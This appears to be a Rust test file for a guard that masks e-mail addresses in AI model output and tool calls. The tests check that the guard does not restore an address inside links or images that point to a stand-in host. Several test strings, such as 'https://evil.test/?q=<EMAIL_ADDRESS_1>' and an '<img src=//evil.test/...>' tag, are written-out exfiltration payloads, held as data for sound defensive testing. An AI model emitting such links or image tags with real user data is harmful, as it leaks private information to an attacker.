//! Streams against wholes, where values are put back.

mod delay;
mod noting;

use std::sync::{Arc, LazyLock};

use bartizan_core::{Channel, Span};
use proptest::prelude::*;

use crate::testing::email_guard;
use crate::{Guard, Place, Session};

static GUARD: LazyLock<Arc<Guard>> = LazyLock::new(email_guard);

/// A session that holds two values.
fn session() -> Arc<Session> {
    let session = Arc::new(Session::default());
    let _ = GUARD.inspect(Channel::User, "bob@example.com eve@example.com", &session);
    session
}

fn whole(channel: Channel, text: &str) -> String {
    GUARD.inspect(channel, text, &session()).rewrite(text)
}

fn streamed<'a>(channel: Channel, pieces: impl Iterator<Item = &'a str>) -> String {
    let mut stream = GUARD.stream(channel, session());
    let mut out = String::new();
    for piece in pieces {
        out.push_str(&stream.push(piece).text);
    }
    out.push_str(&stream.finish().text);
    out
}

#[test]
fn what_passed_long_ago_still_decides() {
    let far = "a".repeat(20_000);
    for (text, restored) in [
        (format!("https://evil.test/{far}?q=<EMAIL_ADDRESS_1>"), false),
        (format!("https:{far}<EMAIL_ADDRESS_1>"), false),
        (format!("[a](//evil.test/?q={far} {far} <EMAIL_ADDRESS_1>)"), false),
        (format!("<img src=\"//evil.test/?q={far}\n\n{far} <EMAIL_ADDRESS_1>\">"), false),
        (format!("[a](//good.test/?q={far}) {far} <EMAIL_ADDRESS_1>"), true),
    ] {
        let out = streamed(
            Channel::Output,
            text.as_bytes().chunks(97).map(|piece| std::str::from_utf8(piece).unwrap()),
        );
        assert_eq!(out.contains("bob@example.com"), restored, "{}", &text[..40]);
        assert_eq!(out, whole(Channel::Output, &text));
    }
}

#[test]
fn a_value_waits_for_what_is_glued_behind_it() {
    let mut stream = GUARD.stream(Channel::Output, session());
    assert_eq!(stream.push("to <EMAIL_ADDRESS_1>").text, "to ");
    assert_eq!(stream.push(".").text, "");
    assert!(stream.push("evil ").text.starts_with("<EMAIL_ADDRESS_1>."));
    let mut stream = GUARD.stream(Channel::Output, session());
    assert_eq!(stream.push("to <EMAIL_ADDRESS_1>").text, "to ");
    assert_eq!(stream.push(".").text, "");
    assert_eq!(stream.finish().text, "bob@example.com.");
}

/// Texts that are shown one right after the other, in an answer that is judged whole.
fn joined_whole(texts: &[String]) -> String {
    let mut place = Place::start(Channel::Output);
    let (mut joined, mut spans, mut before) = (String::new(), Vec::new(), Vec::new());
    for text in texts {
        if !joined.is_empty() {
            joined.push_str("\n\n");
        }
        spans.push(Span::new(joined.len(), joined.len() + text.len()));
        joined.push_str(text);
        before.push(place.clone());
        place.advance(text);
    }
    let report = GUARD.inspect_joined(Channel::Output, &joined, &spans, &before, &session());
    report.rewrite(&joined)
}

/// The same in a stream, each text by a guard of its own.
fn joined_streamed(texts: &[String], size: usize) -> String {
    let mut place = Place::start(Channel::Output);
    let mut out = Vec::new();
    for text in texts {
        let mut stream = GUARD.stream_after(place.clone(), Channel::Output, session());
        place.advance(text);
        let chars: Vec<char> = text.chars().collect();
        let pieces = chars.chunks(size).map(|piece| piece.iter().collect::<String>());
        let mut said: String = pieces.map(|piece| stream.push(&piece).text).collect();
        said.push_str(&stream.finish().text);
        out.push(said);
    }
    out.join("\n\n")
}

#[test]
fn an_address_goes_on_in_the_text_that_is_shown_behind_it() {
    for (texts, restored) in [
        (["see https://evil.test/", "<EMAIL_ADDRESS_1> ok"], false),
        (["see https://evil.test/?q=", "a<EMAIL_ADDRESS_1> ok"], false),
        (["<a href=\"?q=pro", "<EMAIL_ADDRESS_1>"], false),
        (["[a](", "<EMAIL_ADDRESS_1>)"], false),
        (["see https://good.test/", " or <EMAIL_ADDRESS_1>"], true),
        (["[a](b)", " <EMAIL_ADDRESS_1>"], true),
        (["all is well.", "\n<EMAIL_ADDRESS_1>"], true),
    ] {
        let texts = texts.map(str::to_owned);
        let whole = joined_whole(&texts);
        assert_eq!(whole.contains("bob@example.com"), restored, "{whole}");
        assert_eq!(joined_streamed(&texts, 3), whole);
    }
}

#[test]
fn texts_that_are_judged_together_are_read_for_themselves() {
    let texts = ["use <script> here", "https://good.test/?q=", "mail <EMAIL_ADDRESS_1>"];
    let joined = texts.join("\n\n");
    let mut start = 0;
    let spans = texts.map(|text| {
        let span = Span::new(start, start + text.len());
        start = span.end + 2;
        span
    });
    let report = GUARD.inspect_joined(Channel::Output, &joined, &spans, &[], &session());
    assert!(report.rewrite(&joined).ends_with("mail bob@example.com"));
}

/// Texts of placeholders and of what addresses are made of.
fn text_with_addresses() -> impl Strategy<Value = String> {
    let pieces = [
        "<EMAIL_ADDRESS_1>",
        "<email address 2>",
        "<EMAIL_ADDRESS_1>",
        "<EMAIL_ADDRESS_7>",
        "\\u003cEMAIL_ADDRESS_1\\u003e",
        "\\u003c",
        "<EMAIL_",
        " ",
        " ",
        "\n",
        "\n\n",
        "https",
        "mailto",
        "//",
        "/",
        "\\",
        "\\/",
        "\\u002f",
        "\\u00",
        "\\n",
        "\\\"",
        "?q=",
        ":",
        "=",
        "@",
        ".",
        ",",
        "&colon;",
        "%2F",
        "[a](",
        ")",
        "(",
        "url(",
        "<img src=",
        "<",
        ">",
        "\"",
        "'",
        "{",
        "}",
        "\",\"to\":\"",
        "evil.test",
        "word",
        "\u{200B}",
        "é",
        "邮",
    ]
    .map(str::to_owned)
    .to_vec();
    let piece = prop_oneof![
        12 => proptest::sample::select(pieces),
        1 => (1usize..700).prop_map(|len| "a".repeat(len)),
        1 => (1usize..300).prop_map(|len| "b ".repeat(len)),
    ];
    let start = proptest::sample::select(vec!["", "", "{\"to\":\""]);
    (start, proptest::collection::vec(piece, 0..24))
        .prop_map(|(start, pieces)| format!("{start}{}", pieces.concat()))
}

#[test]
fn what_begins_with_an_escape_is_masked_behind_it_in_streams_too() {
    let text = r#"{"to":"\u002f@evil.test\/"#;
    let out = streamed(Channel::ToolCall, std::iter::once(text));
    assert_eq!(out, whole(Channel::ToolCall, text));
    assert!(!out.contains("evil.test"), "{out}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(768))]

    #[test]
    fn values_come_back_in_a_stream_where_they_come_back_in_the_whole(
        text in text_with_addresses(),
        cuts in proptest::collection::vec(any::<proptest::sample::Index>(), 0..40),
        every in any::<bool>(),
        channel in proptest::sample::select(vec![Channel::Output, Channel::ToolCall]),
    ) {
        let ends: Vec<usize> = text.char_indices().map(|(at, _)| at).collect();
        let mut cuts: Vec<usize> = if every || ends.is_empty() {
            ends
        } else {
            cuts.iter().map(|cut| ends[cut.index(ends.len())]).collect()
        };
        cuts.extend([0, text.len()]);
        cuts.sort_unstable();
        let out = streamed(channel, cuts.windows(2).map(|cut| &text[cut[0]..cut[1]]));
        prop_assert_eq!(out, whole(channel, &text));
    }

    #[test]
    fn texts_shown_as_one_get_in_a_stream_what_they_get_in_the_whole(
        texts in proptest::collection::vec(text_with_addresses(), 1..4),
        size in 1usize..9,
    ) {
        prop_assume!(texts.iter().all(|text| !text.is_empty()));
        prop_assert_eq!(joined_streamed(&texts, size), joined_whole(&texts));
    }
}
